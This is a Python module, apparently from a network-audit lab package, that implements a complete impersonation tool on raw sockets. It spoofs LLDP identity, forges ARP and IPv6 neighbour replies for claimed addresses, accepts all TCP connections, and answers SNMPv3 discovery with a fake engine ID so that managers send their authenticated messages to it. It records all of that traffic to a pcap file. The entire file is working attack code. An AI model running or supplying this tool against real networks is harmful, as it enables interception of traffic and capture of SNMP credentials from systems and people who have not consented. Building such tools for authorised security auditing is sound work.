"""A machine that says it is another one, and keeps what it is told for it.

It announces itself by LLDP under somebody else's name with an address that it makes up, answers ARP and neighbour
solicitations for that address, takes connections on every port of it, and answers SNMPv3 discoveries as an engine of its
own: whoever believes it goes on to the message with the credentials. All of it is done on raw frames, so that nothing is
left in the node when the process ends. Every frame that it gets under a name that is not its own is kept in a file.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from ipaddress import ip_address
from pathlib import Path
from typing import Any, NoReturn

from r2s_audit.lab.responders import lldp_frame

ENGINE = bytes.fromhex("8000000004") + b"imposteur"
MAX_FRAME = 65535
MAX_KEPT = 8 << 20
_EVERY_ETHERTYPE = 0x0003
_IPV4, _ARP, _IPV6 = 0x0800, 0x0806, 0x86DD
_ICMP, _TCP, _UDP, _ICMPV6 = 1, 6, 17, 58
_SNMP = 161
_SYN, _ACK, _FIN, _RST = 0x02, 0x10, 0x01, 0x04
_UNKNOWN_ENGINE = bytes.fromhex("2b060106030f01010400")
"""usmStatsUnknownEngineIDs.0 (RFC 3414, section 5)."""


@dataclass(frozen=True, slots=True)
class Frame:
    """What a frame is to the impostor: who sent it, to which address, and what it carries."""

    source_mac: bytes
    source: bytes
    """Packed address."""
    destination: bytes
    protocol: int
    payload: bytes


def serve(options: Mapping[str, Any]) -> NoReturn:
    """Be somebody else on ``options['interface']``; ``claims`` are the addresses, ``heard`` the file of what comes."""
    own = bytes.fromhex(options["mac"].replace(":", ""))
    claims = {ip_address(address).packed for address in options["claims"]}
    true = {ip_address(address).packed for address in options["addresses"]}
    announcement = lldp_frame.frame(options)
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock,  # noqa: TID251 - a device of the laboratory
        Path(options["heard"]).open("wb", buffering=0) as heard,
    ):
        sock.bind((options["interface"], _EVERY_ETHERTYPE))
        # The file is the sign that it listens.
        heard.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, MAX_FRAME, 1))
        due = time.monotonic()
        while True:
            if time.monotonic() >= due:
                sock.send(announcement)
                due = time.monotonic() + 1
            if not select.select([sock], [], [], max(0.0, due - time.monotonic()))[0]:
                continue
            data, address = sock.recvfrom(MAX_FRAME)
            if address[2] == socket.PACKET_OUTGOING:
                continue
            for answer in answers(data, own, claims, true):
                sock.send(answer)
            if is_for_us(data, own, true) and heard.tell() < MAX_KEPT:
                now = time.time()
                heard.write(struct.pack("<IIII", int(now), int(now % 1 * 1e6), len(data), len(data)) + data)


def is_for_us(data: bytes, own: bytes, true: set[bytes]) -> bool:
    """Whether somebody sent this to our card, to an address that is not ours."""
    frame = _parsed(data)
    return frame is not None and data[:6] == own and frame.destination not in true and not _multicast(frame.destination)


def _multicast(address: bytes) -> bool:
    return address[0] == 0xFF if len(address) == 16 else address[0] >= 0xE0


def answers(data: bytes, own: bytes, claims: set[bytes], true: set[bytes]) -> Iterator[bytes]:
    """Frames that make the sender of one believe that it talks to the right machine."""
    if int.from_bytes(data[12:14]) == _ARP and len(data) >= 42:
        sender_mac, sender, target = data[22:28], data[28:32], data[38:42]
        if data[20:22] == b"\0\1" and target in claims:
            reply = bytes.fromhex("0001080006040002") + own + target + sender_mac + sender
            yield sender_mac + own + struct.pack(">H", _ARP) + reply
        return
    frame = _parsed(data)
    if frame is None:
        return
    if frame.protocol == _ICMPV6 and frame.payload[:1] == b"\x87" and frame.payload[8:24] in claims:
        target = frame.payload[8:24]
        body = b"\x88\0\0\0" + b"\x60\0\0\0" + target + b"\2\1" + own
        yield _packet(frame, own, _ICMPV6, body, source=target)
        return
    if data[:6] != own or frame.destination in true or _multicast(frame.destination):
        return
    if frame.protocol in {_ICMP, _ICMPV6} and frame.payload[:1] in {b"\x08", b"\x80"}:
        kind = b"\0" if frame.protocol == _ICMP else b"\x81"
        yield _packet(frame, own, frame.protocol, kind + b"\0\0\0" + frame.payload[4:])
    elif frame.protocol == _TCP and len(frame.payload) >= 20:
        yield from _tcp(frame, own)
    elif frame.protocol == _UDP and len(frame.payload) >= 8 and int.from_bytes(frame.payload[2:4]) == _SNMP:
        said = discovery_report(frame.payload[8:])
        if said is not None:
            ports = frame.payload[2:4] + frame.payload[:2]
            yield _packet(frame, own, _UDP, ports + struct.pack(">HH", 8 + len(said), 0) + said)


def _tcp(frame: Frame, own: bytes) -> Iterator[bytes]:
    """Take every connection and acknowledge all that is said on it (RFC 9293), without a state."""
    source, destination, sequence, acknowledged, offset, flags = struct.unpack(">HHIIBB", frame.payload[:14])
    if flags & _RST:
        return
    length = len(frame.payload) - (offset >> 4) * 4
    ends = sequence + length + bool(flags & _SYN) + bool(flags & _FIN)
    if ends == sequence:
        return
    said = _SYN | _ACK if flags & _SYN else _ACK | (flags & _FIN)
    own_sequence = 1000 if flags & _SYN else acknowledged
    head = struct.pack(">HHIIBBHHH", destination, source, own_sequence, ends & 0xFFFFFFFF, 5 << 4, said, 65535, 0, 0)
    yield _packet(frame, own, _TCP, head)


def _parsed(data: bytes) -> Frame | None:
    """An IP packet in an untagged frame; fragments and IPv6 extensions are nobody's business here."""
    ethertype = int.from_bytes(data[12:14])
    if ethertype == _IPV4 and len(data) >= 34:
        end = 14 + int.from_bytes(data[16:18])
        return Frame(data[6:12], data[26:30], data[30:34], data[23], data[14 + (data[14] & 15) * 4 : end])
    if ethertype == _IPV6 and len(data) >= 54:
        end = 54 + int.from_bytes(data[18:20])
        return Frame(data[6:12], data[22:38], data[38:54], data[20], data[54:end])
    return None


def _packet(asked: Frame, own: bytes, protocol: int, body: bytes, *, source: bytes = b"") -> bytes:
    """The way back, with the checksums right."""
    source = source or asked.destination
    ipv6 = len(source) == 16
    length = struct.pack(">II", len(body), protocol) if ipv6 else struct.pack(">BBH", 0, protocol, len(body))
    place = {_ICMP: 2, _ICMPV6: 2, _TCP: 16, _UDP: 6}[protocol]
    pseudo = b"" if protocol == _ICMP else source + asked.source + length
    checksum = _sum(pseudo + body[:place] + b"\0\0" + body[place + 2 :])
    body = body[:place] + struct.pack(">H", checksum or 0xFFFF) + body[place + 2 :]
    if ipv6:
        head = struct.pack(">IHBB", 6 << 28, len(body), protocol, 255) + source + asked.source
        return asked.source_mac + own + struct.pack(">H", _IPV6) + head + body
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, 64, protocol, 0) + source + asked.source
    head = head[:10] + struct.pack(">H", _sum(head)) + head[12:]
    return asked.source_mac + own + struct.pack(">H", _IPV4) + head + body


def _sum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f">{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def discovery_report(message: bytes) -> bytes | None:
    """The report that an engine sends to whoever does not know its name yet (RFC 3414, section 4).

    None for anything but an SNMPv3 message: nobody who asks by community is answered.
    """
    try:
        outer, _ = _tlv(message)
        version, rest = _tlv(outer)
        header, _ = _tlv(rest)
        identifier, _ = _tlv(header)
    except IndexError:
        return None
    if version != b"\3":
        return None
    empty = _ber(4, b"")
    usm = _ber(0x30, _ber(4, ENGINE) + _ber(2, b"\1") + _ber(2, b"\x40") + empty * 3)
    counter = _ber(0x30, _ber(0x30, _ber(6, _UNKNOWN_ENGINE) + _ber(0x41, b"\1")))
    pdu = _ber(0xA8, _ber(2, b"\0") * 3 + counter)
    globals_ = _ber(0x30, _ber(2, identifier) + _ber(2, b"\0\xff\xe3") + _ber(4, b"\0") + _ber(2, b"\3"))
    scoped = _ber(0x30, _ber(4, ENGINE) + empty + pdu)
    return _ber(0x30, _ber(2, b"\3") + globals_ + _ber(4, usm) + scoped)


def _ber(tag: int, value: bytes) -> bytes:
    """Tag, length, value (X.690, 8.1)."""
    short = len(value) < 0x80
    return bytes((tag,)) + (bytes((len(value),)) if short else b"\x82" + struct.pack(">H", len(value))) + value


def _tlv(data: bytes) -> tuple[bytes, bytes]:
    """The value of the first element, and what follows it.

    Raises:
        IndexError: there is none, or not the whole of it.
    """
    size, place = data[1], 2
    if size & 0x80:
        place += size & 0x7F
        size = int.from_bytes(data[2:place])
    if place + size > len(data):
        raise IndexError(size)
    return data[place : place + size], data[place + size :]
